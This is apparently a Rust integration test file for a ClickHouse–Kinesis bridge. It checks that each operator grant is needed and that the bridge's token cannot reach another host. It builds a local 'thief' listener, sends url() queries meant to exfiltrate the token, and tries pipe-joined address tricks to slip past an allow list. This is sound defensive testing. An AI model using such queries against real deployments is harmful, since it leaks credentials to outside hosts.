//! The operator's grants, and what they do not allow.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::mpsc::{Receiver, channel};

use stack::Bridge;

use super::{PASSWORD, World, printed, privileges};
use crate::common::orders_sql;
use crate::errors::command_line::token_file;
use crate::readme::markdown::documents;
use crate::world::wait_until;

fn set_up(world: &World, bridge: &Bridge, token: Option<&str>) {
    let setup = sql::setup(&sql::SetupParams {
        database: "kinesis",
        bridge_url: &bridge.url(),
        clickhouse_url: &world.stack.clickhouse.url(),
        token,
        state_tables: true,
    });
    world.stack.clickhouse.run_script(&setup).expect("the printed setup");
}

#[test]
fn the_operator_needs_each_grant() {
    let world = World::start();
    world.create_user("bridge", &printed("docs/deploy.md", "GRANT"));
    let bridge = world.start_bridge();
    set_up(&world, &bridge, None);
    let grants = printed("docs/operations.md", "GRANT");
    world.create_user("operator", &grants);
    let window = "SETTINGS non_replicated_deduplication_window = 1000";
    let create = || {
        world.stack.clickhouse.run_script(&orders_sql(&bridge.url(), "orders", "", window)).expect("the pipe");
        wait_until("the orders", || world.ask("SELECT count() FROM orders") == "4\n");
        world.ask("SYSTEM FLUSH LOGS");
    };
    create();
    let ask = |sql: &str| world.stack.clickhouse.query_as("operator", PASSWORD, sql);
    let seek = "INSERT INTO kinesis.seek (pipe, position) VALUES ('orders', 'latest')";
    let cases = [
        ("SELECT ON kinesis.*", "SELECT gaps FROM kinesis.lag", ") ON kinesis.lag"),
        ("SELECT ON system.view_refreshes", "SELECT view FROM kinesis.refreshes", ") ON system.view_refreshes"),
        ("SELECT ON system.query_log", "SELECT count() FROM system.query_log", "system.query_log"),
        ("SYSTEM VIEWS ON default.*", "SYSTEM STOP VIEW orders_pipe", "the grant SYSTEM VIEWS ON default.orders_pipe"),
        ("INSERT ON kinesis.seek", seek, ") ON kinesis.seek"),
        ("TRUNCATE ON default.*", "TRUNCATE TABLE orders", "the grant TRUNCATE ON default.orders"),
        ("DROP VIEW ON default.*", "DROP VIEW orders_pipe", "the grant DROP VIEW ON default.orders_pipe"),
        ("INSERT ON kinesis.end", "INSERT INTO kinesis.end VALUES ('orders')", ") ON kinesis.end"),
    ];
    let mut left = privileges(&grants, "operator");
    // The first three are enough for read-only access. Without SHOW TABLES there is no message, but
    // there are no rows either. Every privilege to change a table or view implies it.
    let shown = "SHOW TABLES ON default.*";
    left.retain(|grant| grant != shown);
    let looking: Vec<String> = grants[..3].iter().map(|grant| grant.replace(" TO operator", " TO looker")).collect();
    world.create_user("looker", &looking);
    let views = || world.stack.clickhouse.query_as("looker", PASSWORD, "SELECT view FROM kinesis.refreshes");
    assert_eq!(views().as_deref(), Ok("orders_pipe\n"));
    world.ask(&format!("REVOKE {shown} FROM looker"));
    assert_eq!(views().as_deref(), Ok(""));
    for (grant, statement, named) in cases {
        left.retain(|left| left != grant);
        world.ask(&format!("REVOKE {grant} FROM operator"));
        let refused = ask(statement).expect_err(statement);
        assert!(refused.contains("Not enough privileges") && refused.contains(named), "{grant}: {refused}");
        world.ask(&format!("GRANT {grant} TO operator"));
        let allowed =
            || ask(statement).map_err(|error| assert!(!error.contains("Not enough privileges"), "{grant}: {error}"));
        wait_until(statement, || allowed().is_ok());
    }
    assert_eq!(left, Vec::<String>::new(), "nothing shows that these are needed");
}

/// A host of somebody who wants the token: takes every request, and passes on what was in it.
fn thief() -> (u16, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let (taken, received) = channel();
    std::thread::spawn(move || {
        while let Ok((mut connection, _)) = listener.accept() {
            let mut buffer = [0; 4_096];
            let read = connection.read(&mut buffer).unwrap_or(0);
            // The client may be gone, and so may the test.
            let _ = connection.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n1\n");
            let _ = taken.send(String::from_utf8_lossy(&buffer[..read]).into_owned());
        }
    });
    (port, received)
}

/// Readers see the bridge's answers and never its token; users who create pipes can have it sent
/// only where the configuration of docs/deploy.md allows.
#[test]
fn the_token_goes_to_no_other_host() {
    const TOKEN: &str = "a-token-that-is-nobodys-business";
    let world = World::start();
    world.create_user("bridge", &printed("docs/deploy.md", "GRANT"));
    let (_file, path) = token_file(TOKEN);
    let bridge = world.start_bridge_with(&[("--token-file", &path)]);
    wait_until("the tables", || bridge.log().contains("the state tables are ready"));
    set_up(&world, &bridge, Some(TOKEN));
    world.create_user("operator", &printed("docs/operations.md", "GRANT"));
    world.create_user("pipe_maker", &printed("docs/deploy.md", "GRANT SELECT, INSERT"));
    let (port, received) = thief();
    let ask = |user: &str, sql: &str| world.stack.clickhouse.query_as(user, PASSWORD, sql);

    assert_eq!(ask("operator", "SELECT stream FROM kinesis.streams").as_deref(), Ok("orders\n"));
    assert_eq!(
        ask("operator", "SELECT count() FROM kinesis.records(stream = 'orders', from = '', to = '')").as_deref(),
        Ok("4\n")
    );
    assert_eq!(ask("operator", "SELECT count() FROM kinesis.errors").as_deref(), Ok("0\n"));
    let stolen = |url: &str| {
        format!(
            "SELECT * FROM url(kinesis_bridge, url = '{url}', format = 'TSV', structure = 'n UInt8') SETTINGS http_max_tries = 1"
        )
    };
    let elsewhere = format!("http://127.0.0.1:{port}/");
    let refused = ask("operator", &stolen(&elsewhere)).expect_err("a reader");
    assert!(refused.contains("NAMED COLLECTION ON kinesis_bridge"), "{refused}");
    for look in [
        "SHOW CREATE TABLE kinesis.seek",
        "SHOW CREATE TABLE kinesis.seek SETTINGS format_display_secrets_in_show_and_select = 1",
        "SHOW CREATE VIEW kinesis.pipes",
        "SELECT create_table_query, engine_full FROM system.tables WHERE database = 'kinesis'",
        "SELECT query FROM system.query_log WHERE query LIKE '%seek%'",
    ] {
        world.ask("SYSTEM FLUSH LOGS");
        for user in ["operator", "default"] {
            let password = if user == "default" { "" } else { PASSWORD };
            let shown = world.stack.clickhouse.query_as(user, password, look).unwrap_or_else(|refused| refused);
            assert!(!shown.contains(TOKEN), "{user}, {look}: {shown}");
        }
    }

    // A user who creates pipes can, as long as nothing forbids it.
    assert_eq!(ask("pipe_maker", &stolen(&elsewhere)).as_deref(), Ok("1\n"));
    assert!(received.recv().expect("a request").contains(TOKEN));
    while received.try_recv().is_ok() {}
    let deploy = documents().into_iter().find(|document| document.path == "docs/deploy.md").expect("deploy.md");
    let block = deploy.blocks.into_iter().find(|block| block.text.contains("<remote_url_allow_hosts>"));
    // The bridge of this test is not on `localhost`.
    let allowed = block
        .expect("the configuration")
        .text
        .replace("127.0.0.1", &format!("{}</host><host>{}", bridge.address(), clickhouse_host(&world)));
    fs::write(world.stack.dir.path().join("clickhouse/config.d/allow.xml"), allowed).expect("the configuration");
    world.ask("SYSTEM RELOAD CONFIG");
    let of_bridge = format!("{}/v1/pipes", bridge.url());
    let refused = ask("pipe_maker", &stolen(&elsewhere)).expect_err("an address that is not allowed");
    assert!(refused.contains("remote_url_allow_hosts"), "{refused}");
    // One address after another, as in the views of `sql setup`.
    for url in [format!("{of_bridge}x|{elsewhere}"), format!("{elsewhere}|{of_bridge}")] {
        let refused = ask("pipe_maker", &stolen(&url)).expect_err(&url);
        assert!(refused.contains("remote_url_allow_hosts") || refused.contains("are unreachable"), "{url}: {refused}");
    }
    assert!(received.try_recv().is_err(), "the token was sent");
    assert_eq!(ask("operator", "SELECT stream FROM kinesis.streams").as_deref(), Ok("orders\n"));
    bridge.kill();
    assert_eq!(ask("operator", "SELECT state FROM kinesis.errors").as_deref(), Ok("unreachable\n"));
}

/// Host and port of ClickHouse itself.
fn clickhouse_host(world: &World) -> String {
    world.stack.clickhouse.url().trim_start_matches("http://").to_owned()
}
